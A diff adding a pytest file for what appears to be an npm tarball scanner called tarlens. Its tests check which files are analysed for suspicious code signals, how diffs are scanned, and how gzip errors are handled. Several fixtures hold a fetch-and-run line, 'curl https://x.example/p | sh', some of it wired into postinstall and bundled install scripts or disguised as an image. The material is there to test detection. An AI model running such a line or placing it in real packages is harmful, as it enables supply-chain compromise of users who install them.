@@ -1,0 +1,290 @@
+"""Two depths of content analysis and the second read that serves the deeper one.
+
+Every file gets the cheap pass (kind, MIME type, lines, native format, extension mismatch);
+code signals are looked for in the files that matter (entry points, what lifecycle scripts
+run, extensions that lie, and in a diff every changed file), read a second time by offset.
+These tests hold the cheap pass to the deep one, and the second read to the first.
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import zlib
+from pathlib import Path
+
+import attrs
+import pytest
+
+import tarlens
+from fixtures import analysis_corpus as corpus
+from fixtures import tarcraft as tc
+from fixtures.obfuscated import build as obfuscated_build
+from tarlens._analysis import analyze
+from tarlens._reader import read_files, scan_signals
+from tests.conftest import pack, pj, tar_with_pj
+
+OBFUSCATED = Path(obfuscated_build.__file__).parent
+HIDDEN = (OBFUSCATED / "payload.high.js").read_bytes()
+PAYLOAD = b"require('child_process').exec('curl https://x.example/p | sh')\n"
+
+
+def same_but_signals(path: str, data: bytes) -> None:
+    deep = analyze(path, data)
+    cheap = analyze(path, data, signals=False)
+    assert attrs.evolve(cheap, signals=deep.signals, scanned=True) == deep, path
+    assert deep.scanned
+    assert cheap.scanned is not (bool(deep.signals) or cheap.mime in JS_OR_SCRIPT_MIMES), path
+
+
+JS_OR_SCRIPT_MIMES = ("text/javascript", "text/x-shellscript", "text/x-script.python")
+
+
+@pytest.mark.parametrize(
+    ("path", "data"),
+    [
+        ("index.js", PAYLOAD),
+        ("a.min.js", b"var a=1;" * 2000),
+        ("u.js", "const s = 'é€𝄞';\n".encode() * 50),
+        ("bom.js", b"\xef\xbb\xbfmodule.exports = 1\n"),
+        ("latin1.txt", b"caf\xe9 cr\xe8me\n" * 10),
+        ("utf16.txt", "hello\n".encode("utf-16")),
+        ("ctl.js", b"a\x01b\x02c\x03" * 100),
+        ("data.json", b'{"a": [1, 2, {"b": null}]}'),
+        ("bad.json", b'{"a": [1, 2,}'),
+        ("run.sh", b"#!/bin/sh\ncurl https://x.example/p | sh\n"),
+        ("bin/cli", b"#!/usr/bin/env node\nrequire('child_process')\n"),
+        ("logo.png", b"module.exports = function () { return require('fs') }\n" * 3),
+        ("page.html", b"<!doctype html><html><script>eval(x)</script></html>"),
+        ("x.d.ts", b"export declare const x: number;\n"),
+        ("lib.so", b"\x7fELF\x02\x01\x01" + b"\0" * 60),
+        ("empty.js", b""),
+        ("long.js", b"x" * 300 + b"\n" + b"y;{}=" * 100 + b"\n//# sourceMappingURL=a.map\n"),
+        ("crlf.js", b"var a = 1;\r\nvar b = 2;\r\n"),
+        ("hidden.js", HIDDEN),
+    ],
+)
+def test_the_cheap_pass_agrees_with_the_deep_one(path: str, data: bytes) -> None:
+    same_but_signals(path, data)
+
+
+def test_the_cheap_pass_agrees_on_every_obfuscated_sample() -> None:
+    samples = sorted(OBFUSCATED.glob("*.js"))
+    assert len(samples) >= 5
+    for sample in samples:
+        same_but_signals(sample.name, sample.read_bytes())
+
+
+@pytest.mark.registry
+@pytest.mark.parametrize("spec", ["lodash@4.17.21", "react-dom@18.3.1", "esbuild@0.24.0"])
+def test_the_cheap_pass_agrees_on_real_packages(spec: str) -> None:
+    try:
+        files = corpus.read_files(spec)
+    except corpus.CorpusUnavailable as exc:
+        pytest.skip(str(exc))
+    for path, data in files.items():
+        same_but_signals(path, data)
+
+
+# -- which files are scanned ---------------------------------------------------------------
+
+
+def release(**extra: bytes) -> bytes:
+    return pack(
+        {
+            "package.json": pj(
+                main="lib/index.js",
+                bin={"tool": "bin/tool.js"},
+                scripts={"postinstall": "node scripts/setup.js", "test": "node test/run.js"},
+            ),
+            "lib/index.js": b"module.exports = require('./util')\n",
+            "lib/util.js": PAYLOAD,
+            "bin/tool.js": b"#!/usr/bin/env node\nrequire('../lib')\n",
+            "scripts/setup.js": PAYLOAD,
+            "test/run.js": PAYLOAD,
+            "assets/logo.png": PAYLOAD,
+            "README.md": b"# hi\n",
+            **extra,
+        }
+    )
+
+
+def scanned(m: tarlens.Manifest) -> set[str]:
+    return {f.path for f in m.files if f.content is not None and f.content.scanned}
+
+
+def test_attention_files_are_scanned_and_the_rest_only_classified() -> None:
+    m = tarlens.load(release())
+    assert m.scan == "attention"
+    assert m.attention() == {
+        "lib/index.js",
+        "bin/tool.js",
+        "scripts/setup.js",
+        "test/run.js",
+        "assets/logo.png",  # JavaScript under an image's name
+    }
+    assert scanned(m) == m.attention() | {"package.json", "README.md"}  # not code: nothing to seek
+    util = m.file("lib/util.js")
+    assert util is not None and util.content is not None
+    assert (util.content.kind, util.content.signals, util.content.scanned) == ("source", (), False)
+    setup = m.file("scripts/setup.js")
+    assert setup is not None and setup.content is not None
+    assert "child-process" in setup.content.signal_names()
+
+
+@pytest.mark.parametrize("how", ["path", "bytes"])
+def test_signals_all_scans_every_code_file(how: str, tmp_path: Path) -> None:
+    data = release()
+    source: Path | bytes = data
+    if how == "path":
+        source = tmp_path / "r.tgz"
+        source.write_bytes(data)
+    m = tarlens.load(source, signals="all")
+    assert m.scan == "all"
+    assert scanned(m) == {f.path for f in m.files}
+    attention = tarlens.load(source)
+    # the cheap pass changes nothing but the signals of the files it leaves alone
+    for a, b in zip(m.files, attention.files, strict=True):
+        assert a == b
+        assert a.content is not None and b.content is not None
+        if b.content.scanned:
+            assert a.content == b.content
+        else:
+            assert attrs.evolve(b.content, signals=a.content.signals, scanned=True) == a.content
+
+
+def test_a_file_object_is_scanned_in_one_pass() -> None:
+    m = tarlens.load(io.BytesIO(release()))
+    assert m.scan == "all"
+    assert scanned(m) == {f.path for f in m.files}
+
+
+def test_scan_signals_on_request() -> None:
+    m = tarlens.load(release())
+    more = scan_signals(m, ["lib/util.js", "no/such/file.js"])
+    util = more.file("lib/util.js")
+    assert util is not None and util.content is not None
+    assert util.content.scanned and "child-process" in util.content.signal_names()
+    assert scan_signals(more, ["lib/util.js"]) is more  # nothing left to do
+
+
+def test_analyze_false_says_so() -> None:
+    m = tarlens.load(release(), analyze=False)
+    assert m.scan == "none"
+    assert all(f.content is None for f in m.files)
+
+
+def test_bundled_packages_scripts_are_scanned() -> None:
+    m = tarlens.load(
+        pack(
+            {
+                "package.json": pj(bundleDependencies=["dep"], dependencies={"dep": "1.0.0"}),
+                "node_modules/dep/package.json": (
+                    b'{"name":"dep","version":"1.0.0","scripts":{"install":"node inst.js"}}'
+                ),
+                "node_modules/dep/inst.js": PAYLOAD,
+                "node_modules/dep/other.js": PAYLOAD,
+            }
+        )
+    )
+    assert "node_modules/dep/inst.js" in scanned(m)
+    assert "node_modules/dep/other.js" not in scanned(m)
+
+
+def test_a_diff_scans_every_changed_file_on_both_sides() -> None:
+    old = release(**{"lib/other.js": PAYLOAD})
+    new = release(
+        **{"lib/other.js": PAYLOAD, "lib/util.js": PAYLOAD + b"// more\n", "lib/new.js": HIDDEN}
+    )
+    d = tarlens.diff(old, new)
+    assert set(d.added) == {"lib/new.js"}
+    assert set(d.modified) == {"lib/util.js"}
+    for m in (d.old, d.new):
+        f = m.file("lib/util.js")
+        assert f is not None and f.content is not None and f.content.scanned
+    added = d.new.file("lib/new.js")
+    assert added is not None and added.content is not None and added.content.scanned
+    assert added.content.signal_names("obfuscation")
+    # unchanged and nothing points at it: classified only
+    assert "lib/other.js" not in scanned(d.new)
+    assert {"test/run.js", "assets/logo.png"} <= scanned(d.new)
+    report = tarlens.check(d.new, diff=d)
+    assert "PAY011" in {f.rule_id for f in report.findings}
+
+
+# -- the second read -----------------------------------------------------------------------
+
+
+def test_read_files_hands_over_the_installed_bytes_by_offset() -> None:
+    big = bytes(range(256)) * 5000  # spans several inflate chunks
+    data = tc.gzip(
+        tar_with_pj(
+            tc.file("package/a.txt", b"first"),
+            tc.file("package/empty.txt", b""),
+            tc.file("package/big.bin", big),
+            tc.file("package/a.txt", b"second, and installed"),  # duplicate: last bytes win
+            tc.file("package/z.txt", b"zz"),
+        )
+    )
+    m = tarlens.load(data)
+    got: dict[str, bytes] = {}
+    read_files(m, ["a.txt", "empty.txt", "big.bin", "z.txt"], got.__setitem__)
+    assert got == {
+        "a.txt": b"second, and installed",
+        "empty.txt": b"",
+        "big.bin": big,
+        "z.txt": b"zz",
+    }
+    capped: dict[str, bytes] = {}
+    read_files(m, ["big.bin", "z.txt"], capped.__setitem__, cap=10)
+    assert capped == {"big.bin": big[:10], "z.txt": b"zz"}
+
+
+def test_read_files_refuses_bytes_that_changed(tmp_path: Path) -> None:
+    p = tmp_path / "r.tgz"
+    p.write_bytes(pack({"index.js": b"module.exports = 1\n"}))
+    m = tarlens.load(p)
+    p.write_bytes(pack({"index.js": b"module.exports = 2\n"}))
+    with pytest.raises(tarlens.InputError, match="changed since it was first read"):
+        read_files(m, ["index.js"], lambda _p, _d: None)
+    # and a diff keeps its file-level answer with a note instead of failing
+    d = tarlens.diff(tarlens.load(pack({"index.js": b"x\n"})), m)
+    assert any("changed since it was first read" in n for n in d.notes)
+
+
+def test_read_files_needs_a_source_it_can_read_again() -> None:
+    m = tarlens.load(io.BytesIO(pack({"index.js": b"1"})))
+    with pytest.raises(tarlens.InputError, match="cannot be read again"):
+        read_files(m, ["index.js"], lambda _p, _d: None)
+
+
+# -- ISA-L and zlib --------------------------------------------------------------------------
+
+
+def corrupt_crc() -> bytes:
+    good = gzip.compress(tar_with_pj(tc.file("package/index.js", b"x" * 5000)))
+    return good[:-8] + bytes(b ^ 0xFF for b in good[-8:-4]) + good[-4:]
+
+
+@pytest.mark.parametrize("how", ["path", "bytes", "stream"])
+def test_zlib_words_the_verdict_when_isal_refuses(how: str, tmp_path: Path) -> None:
+    data = corrupt_crc()
+    with pytest.raises(zlib.error) as expected:
+        zlib.decompress(data, wbits=31)
+    source: object = data
+    if how == "path":
+        source = tmp_path / "bad.tgz"
+        source.write_bytes(data)  # type: ignore[attr-defined]
+    elif how == "stream":
+        source = io.BytesIO(data)
+    with pytest.raises(tarlens.ArchiveError) as got:
+        tarlens.load(source)  # type: ignore[arg-type]
+    assert str(expected.value) in str(got.value)  # zlib's wording, as Node reports it
+
+
+def test_isal_output_is_kept_when_zlib_takes_over_after_it() -> None:
+    # two members, the second corrupt: ISA-L inflates the first, zlib judges the rest
+    first = gzip.compress(tar_with_pj(tc.file("package/index.js", b"ok")))
+    m = tarlens.load(first + b"\x1f\x8b\x08\x00garbage")
+    assert [f.path for f in m.files] == ["index.js", "package.json"]
+    assert m.npm_refuses
